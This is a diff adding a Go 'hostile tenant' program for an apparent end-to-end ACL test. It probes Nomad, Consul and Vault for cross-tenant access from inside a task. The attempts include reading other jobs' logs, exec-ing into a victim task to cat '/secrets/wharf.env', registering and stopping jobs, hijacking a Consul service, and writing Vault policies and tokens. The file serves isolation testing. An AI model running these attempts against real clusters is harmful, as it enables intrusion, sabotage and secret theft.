@@ -1,0 +1,183 @@
+// Command hostile is the hostile tenant of e2e/acl_test.go: from inside its task it tries
+// the cloudspace's agents (Nomad, Consul, Vault) on the addresses and victim names its
+// environment gives it, and reports at /attack what each attempt got, without judging:
+// the test does. It serves "ok" at / so that it passes its health check.
+package main
+
+import (
+	"bufio"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+	"time"
+)
+
+// attempt is what one try got: the HTTP status and the start of the body (for alloc
+// exec: the output and the close frame's reason).
+type attempt struct {
+	Name   string `json:"name"`
+	Status int    `json:"status"`
+	Body   string `json:"body"`
+	Error  string `json:"error,omitempty"`
+}
+
+func main() {
+	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok\n")) })
+	http.HandleFunc("/attack", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		json.NewEncoder(w).Encode(attack())
+	})
+	if err := http.ListenAndServe(":"+os.Getenv("PORT"), nil); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+}
+
+func attack() []attempt {
+	nomad, consul, vault := os.Getenv("HOSTILE_NOMAD"), os.Getenv("HOSTILE_CONSUL"), os.Getenv("HOSTILE_VAULT")
+	job, alloc, task, service := os.Getenv("VICTIM_JOB"), os.Getenv("VICTIM_ALLOC"), os.Getenv("VICTIM_TASK"), os.Getenv("VICTIM_SERVICE")
+	vaultToken := os.Getenv("VAULT_TOKEN")
+	if vaultToken == "" {
+		b, _ := os.ReadFile("/secrets/vault_token")
+		vaultToken = strings.TrimSpace(string(b))
+	}
+	vh := map[string]string{"X-Vault-Token": vaultToken}
+	evilJob := `{"Job":{"ID":"mallory","Name":"mallory","Type":"batch","Datacenters":["*"],"TaskGroups":[{"Name":"g","Tasks":[{"Name":"t","Driver":"raw_exec","Config":{"command":"/bin/true"}}]}]}}`
+	hijack := fmt.Sprintf(`{"ID":"mallory-hijack","Name":%q,"Address":"127.0.0.1","Port":1}`, service)
+	return []attempt{
+		call("nomad: leader (reachable)", "GET", nomad+"/v1/status/leader", "", nil),
+		call("nomad: list jobs", "GET", nomad+"/v1/jobs", "", nil),
+		call("nomad: read another job", "GET", nomad+"/v1/job/"+url.PathEscape(job), "", nil),
+		call("nomad: read another allocation", "GET", nomad+"/v1/allocation/"+alloc, "", nil),
+		call("nomad: read another task's logs", "GET", nomad+"/v1/client/fs/logs/"+alloc+"?task="+url.QueryEscape(task)+"&type=stdout&origin=start&plain=true", "", nil),
+		exec(nomad, alloc, task),
+		call("nomad: register a job", "PUT", nomad+"/v1/jobs", evilJob, nil),
+		call("nomad: stop another job", "DELETE", nomad+"/v1/job/"+url.PathEscape(job), "", nil),
+		call("consul: leader (reachable)", "GET", consul+"/v1/status/leader", "", nil),
+		call("consul: list keys", "GET", consul+"/v1/kv/?keys", "", nil),
+		call("consul: read wharf's state", "GET", consul+"/v1/kv/wharf/?recurse", "", nil),
+		call("consul: write wharf's state", "PUT", consul+"/v1/kv/wharf/mallory-was-here", "mallory", nil),
+		call("consul: register a service", "PUT", consul+"/v1/agent/service/register", hijack, nil),
+		call("consul: read the catalog", "GET", consul+"/v1/catalog/services", "", nil),
+		call("consul: read another service's health", "GET", consul+"/v1/health/service/"+url.PathEscape(service), "", nil),
+		call("vault: look up its own token (control)", "GET", vault+"/v1/auth/token/lookup-self", "", vh),
+		call("vault: read another environment's configuration", "GET", vault+"/v1/"+os.Getenv("VICTIM_RUNTIME"), "", vh),
+		call("vault: list secrets", "LIST", vault+"/v1/secret/metadata/wharf", "", vh),
+		call("vault: write a policy", "PUT", vault+"/v1/sys/policies/acl/wharf-env-mallory", `{"policy":"path \"secret/*\" { capabilities = [\"read\"] }"}`, vh),
+		call("vault: create a token", "POST", vault+"/v1/auth/token/create", `{"policies":["wharfd"]}`, vh),
+	}
+}
+
+func call(name, method, u, body string, header map[string]string) attempt {
+	a := attempt{Name: name}
+	req, err := http.NewRequest(method, u, strings.NewReader(body))
+	if err != nil {
+		a.Error = err.Error()
+		return a
+	}
+	for k, v := range header {
+		req.Header.Set(k, v)
+	}
+	c := &http.Client{Timeout: 10 * time.Second}
+	resp, err := c.Do(req)
+	if err != nil {
+		a.Error = err.Error()
+		return a
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
+	a.Status, a.Body = resp.StatusCode, string(b)
+	return a
+}
+
+// exec runs a command in the victim's task through Nomad's alloc exec websocket, with
+// a client of its own (the image holds nothing else): it reports the upgrade's status,
+// then what came back: output frames and the close frame's reason.
+func exec(nomad, alloc, task string) attempt {
+	a := attempt{Name: "nomad: alloc exec into another task"}
+	u, err := url.Parse(nomad)
+	if err != nil {
+		a.Error = err.Error()
+		return a
+	}
+	conn, err := net.DialTimeout("tcp", u.Host, 5*time.Second)
+	if err != nil {
+		a.Error = err.Error()
+		return a
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(15 * time.Second))
+	var nonce [16]byte
+	rand.Read(nonce[:])
+	cmd, _ := json.Marshal([]string{"/bin/sh", "-c", "echo pwned; cat /secrets/wharf.env"})
+	path := "/v1/client/allocation/" + alloc + "/exec?task=" + url.QueryEscape(task) + "&tty=false&command=" + url.QueryEscape(string(cmd))
+	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n",
+		path, u.Host, base64.StdEncoding.EncodeToString(nonce[:]))
+	br := bufio.NewReader(conn)
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil {
+		a.Error = err.Error()
+		return a
+	}
+	a.Status = resp.StatusCode
+	if resp.StatusCode != http.StatusSwitchingProtocols {
+		b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
+		a.Body = string(b)
+		return a
+	}
+	var out strings.Builder
+	for out.Len() < 4096 {
+		op, payload, err := readFrame(br)
+		if err != nil {
+			a.Error = err.Error()
+			break
+		}
+		if op == 8 { // close: a status code, then the reason
+			if len(payload) >= 2 {
+				fmt.Fprintf(&out, "close %d: %s", binary.BigEndian.Uint16(payload), payload[2:])
+			}
+			break
+		}
+		out.Write(payload)
+		out.WriteString("\n")
+	}
+	a.Body = out.String()
+	return a
+}
+
+// readFrame reads one unmasked websocket frame from the server.
+func readFrame(r *bufio.Reader) (byte, []byte, error) {
+	var h [2]byte
+	if _, err := io.ReadFull(r, h[:]); err != nil {
+		return 0, nil, err
+	}
+	n := uint64(h[1] & 0x7f)
+	switch n {
+	case 126:
+		var b [2]byte
+		if _, err := io.ReadFull(r, b[:]); err != nil {
+			return 0, nil, err
+		}
+		n = uint64(binary.BigEndian.Uint16(b[:]))
+	case 127:
+		var b [8]byte
+		if _, err := io.ReadFull(r, b[:]); err != nil {
+			return 0, nil, err
+		}
+		n = binary.BigEndian.Uint64(b[:])
+	}
+	if n > 1<<20 {
+		return 0, nil, fmt.Errorf("frame of %d bytes", n)
+	}
+	p := make([]byte, n)
+	_, err := io.ReadFull(r, p)
+	return h[0] & 0x0f, p, err
+}
